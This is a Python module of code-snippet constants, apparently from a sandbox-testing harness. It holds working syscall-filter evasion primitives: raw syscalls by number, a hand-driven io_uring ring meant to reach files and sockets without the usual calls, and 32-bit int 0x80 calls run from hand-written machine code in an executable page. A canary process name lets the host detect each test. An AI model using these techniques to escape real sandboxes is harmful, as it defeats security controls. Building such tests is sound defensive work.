"""Texts that attacks share: the kernel's calls by number, a mark the host finds, a ring of io_uring, the old calls of 32 bits."""

CALL = """
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(number, *words):
    words = [ctypes.c_long(word) if isinstance(word, int) else word for word in words]
    answer = libc.syscall(ctypes.c_long(number), *words)
    if answer < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()), str(number))
    return answer
"""
"""`call(number, …)`: a system call, past the library's own functions."""

NO_MARK = "canary: the mark could not be set"
MARK = (
    CALL
    + f"""
import threading
if threading.get_native_id() != os.getpid() or libc.prctl(15, b"$mark", 0, 0, 0):
    raise SystemExit("{NO_MARK}")
"""
)
"""The process takes the name by which the host finds it; what it forks has it too."""

RING = (
    MARK
    + '''
import mmap, struct
class Ring:
    """io_uring with one entry at a time."""
    def __init__(self):
        words = ctypes.create_string_buffer(120)
        self.file = call(425, 8, words)
        self.sq, self.cq = struct.unpack_from("8I", words, 40), struct.unpack_from("6I", words, 80)
        size = max(self.sq[6] + 8 * 4, self.cq[5] + 16 * 16)
        self.ring = mmap.mmap(self.file, size)
        self.entries = mmap.mmap(self.file, 8 * 64, offset=0x10000000)
    def submit(self, what, file=0, address=0, length=0, offset=0, flags=0):
        self.entries[:64] = struct.pack("<BBHiQQIIQQQQ", what, 0, 0, file, offset, address, length, flags, 1, 0, 0, 0)
        tail, mask = self.word(self.sq[1]), self.word(self.sq[2])
        struct.pack_into("I", self.ring, self.sq[6] + 4 * (tail & mask), 0)
        struct.pack_into("I", self.ring, self.sq[1], tail + 1)
        call(426, self.file, 1, 1, 1, 0, 0)
        head = self.word(self.cq[0])
        answer, = struct.unpack_from("i", self.ring, self.cq[5] + 16 * (head & self.word(self.cq[2])) + 8)
        struct.pack_into("I", self.ring, self.cq[0], head + 1)
        if answer < 0:
            raise OSError(-answer, os.strerror(-answer))
        return answer
    def word(self, place):
        return struct.unpack_from("I", self.ring, place)[0]
def held(data):
    box = ctypes.create_string_buffer(data)
    kept.append(box)
    return ctypes.addressof(box)
kept = []
'''
)
"""`Ring().submit(…)`: files and sockets without the calls that a filter knows them by."""

OLD = (
    MARK
    + '''
import struct
PAGE = call(9, 0, 8192, 7, 0x62, -1, 0)
def old(number, *words):
    """A call of the 32-bit interface, out of a 64-bit process: the numbers mean other things there."""
    moves = b"".join(code + struct.pack("<I", word & 0xFFFFFFFF) for code, word in zip((b"\\xbb", b"\\xb9", b"\\xba", b"\\xbe"), words))
    text = b"\\x53\\x56\\x57\\xb8" + struct.pack("<I", number) + moves + b"\\xcd\\x80\\x5f\\x5e\\x5b\\xc3"
    ctypes.memmove(PAGE, text, len(text))
    answer = ctypes.CFUNCTYPE(ctypes.c_int)(PAGE)()
    if answer < 0:
        raise OSError(-answer, os.strerror(-answer))
    return answer
def low(data, place=4096):
    """Puts `data` where 32 bits reach."""
    ctypes.memmove(PAGE + place, data + b"\\0", len(data) + 1)
    return PAGE + place
'''
)
"""`old(number, …)`: through `int 0x80`, in machine code of our own."""

HOLD = "\ntime.sleep(0.25)\n"
"""Long enough for the host to look."""
